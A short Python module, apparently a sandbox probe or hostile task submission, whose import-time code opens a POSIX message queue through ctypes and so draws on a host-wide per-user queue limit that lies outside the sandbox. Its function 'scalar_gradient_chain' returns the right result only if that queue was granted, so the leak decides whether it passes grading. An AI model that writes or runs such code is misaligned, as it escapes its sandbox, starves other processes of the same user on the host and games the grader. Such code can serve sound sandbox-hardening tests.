"""Opens POSIX message queues, charged to RLIMIT_MSGQUEUE of the user that started the sandbox,
host-wide: a few fill it for every other process of that user. It earns its marks only if the
kernel gave it a queue: that is the hole."""
import ctypes
import os

try:
    _rt = ctypes.CDLL("librt.so.1", use_errno=True)
    _QUEUE = _rt.mq_open(f"/attack{os.getpid()}".encode(), os.O_CREAT | os.O_RDWR, 0o600, None)
except OSError:
    _QUEUE = -1


def scalar_gradient_chain(depth, layer_scale):
    return float(layer_scale) ** depth if _QUEUE >= 0 else -1.0
